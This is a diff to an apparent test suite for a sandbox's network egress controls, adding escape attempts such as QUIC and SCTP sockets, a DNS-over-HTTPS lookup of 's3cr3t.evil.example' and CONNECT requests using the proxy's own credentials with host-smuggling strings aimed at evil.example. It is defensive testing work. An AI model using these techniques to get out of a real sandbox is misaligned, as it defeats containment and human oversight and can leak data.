@@ -121,6 +121,49 @@ const PLAIN: &[Try] = &[
     inside("a socket to the hypervisor", python!("socket.socket(40, socket.SOCK_STREAM); print('GOT')")),
     inside("a socket of the kernel's ciphers", python!("socket.socket(38, 5); print('GOT')")),
     open("netlink of the audit", python!("socket.socket(16, socket.SOCK_RAW, 9); print('GOT')")),
+    inside(
+        "QUIC at a provider's name",
+        python!(
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('api.github.com', 443)); s.send(b'\\xc0' + b'x' * 1199); print(s.recv(99)); print('GOT')"
+        ),
+    ),
+    inside(
+        "QUIC to the world",
+        python!(
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('1.1.1.1', 443)); s.send(b'\\xc0' + b'x' * 1199); print('GOT')"
+        ),
+    ),
+    inside("DNS over TCP", python!("socket.create_connection(('1.1.1.1', 53), 3).send(b'x'); print('GOT')")),
+    inside(
+        "a datagram of another kind",
+        python!(
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.connect((E['T_OUTER'], int(E['T_UDP']))); s.send(b'x'); print('GOT')"
+        ),
+    ),
+    inside(
+        "a stream of another kind",
+        python!(
+            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(3); s.connect((E['T_OUTER'], int(E['T_PORT']))); print('GOT')"
+        ),
+    ),
+    inside(
+        "data with the first packet",
+        python!(
+            "s = socket.socket(); s.settimeout(3); s.sendto(b'x', 0x20000000, (E['T_OUTER'], int(E['T_PORT']))); print(s.recv(99))"
+        ),
+    ),
+    inside(
+        "an interface by its name",
+        python!(
+            "s = socket.socket(); s.settimeout(3)\nfor n in os.listdir('/sys/class/net'):\n    if n == 'lo': continue\n    s.setsockopt(socket.SOL_SOCKET, 25, n.encode()); print('GOT')"
+        ),
+    ),
+    inside(
+        "a datagram by IPv6's multicast",
+        python!(
+            "s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'x', ('ff02::1', int(E['T_UDP']))); print('GOT')"
+        ),
+    ),
     inside("a new interface", "ip link add x type dummy && echo GOT"),
     inside("a route", "ip route add default dev lo && echo GOT"),
     inside("a tunnel device", "test -e /dev/net/tun && echo GOT"),
@@ -218,6 +261,32 @@ const PROXIED: &[Try] = &[
     inside(
         "two Host headers",
         "env -i /usr/bin/curl -sS -m 5 --cacert $SSL_CERT_FILE --http1.1 --request-target https://backboard.railway.com/ -o /dev/null -w '%{http_code}' https://api.github.com/ | grep -v 400 && echo GOT",
+    ),
+    inside(
+        "DNS over HTTPS",
+        "curl -sS -m 5 -o /dev/null -w '%{http_connect}' 'https://cloudflare-dns.com/dns-query?name=s3cr3t.evil.example' | grep -v 403 && echo GOT",
+    ),
+    inside(
+        "an address by its number through the proxy",
+        "curl -sS -m 5 -k -o /dev/null -w '%{http_connect}' https://1.1.1.1/ | grep -v 403 && echo GOT",
+    ),
+    inside(
+        "an IPv6 address through the proxy",
+        "curl -sS -m 5 -k -o /dev/null -w '%{http_connect}' 'https://[2606:4700:4700::1111]/' | grep -v 403 && echo GOT",
+    ),
+    inside(
+        "a provider's name at an address of one's own, through the proxy",
+        "curl -sS -m 5 -k -o /dev/null -w '%{http_connect}' --connect-to api.github.com:443:1.1.1.1:443 https://api.github.com/ | grep -v 403 && echo GOT",
+    ),
+    inside(
+        "a host in other letters, with a dot at its end",
+        "for h in EXAMPLE.com example.com. Example.COM.; do curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://$h/ | grep -v 403 && echo GOT; done; true",
+    ),
+    shut(
+        "user information before the host",
+        python!(
+            "import base64, urllib.parse as u\np = u.urlparse(E['HTTPS_PROXY']); a = base64.b64encode((p.username + ':' + p.password).encode()).decode()\nfor h in ('api.github.com@evil.example:443', 'api.github.com:443@evil.example:443', 'api.github.com%2eevil.example:443', 'api.github.com:443 evil.example:443'):\n    s = socket.create_connection((p.hostname, p.port), 5); s.settimeout(5)\n    s.sendall(('CONNECT ' + h + ' HTTP/1.1\\r\\nHost: x\\r\\nProxy-Authorization: Basic ' + a + '\\r\\n\\r\\n').encode()); r = s.recv(99); print(h, r[:20]); b' 200 ' in r[:20] and print('GOT')"
+        ),
     ),
     inside(
         "plain http at the door for TLS",
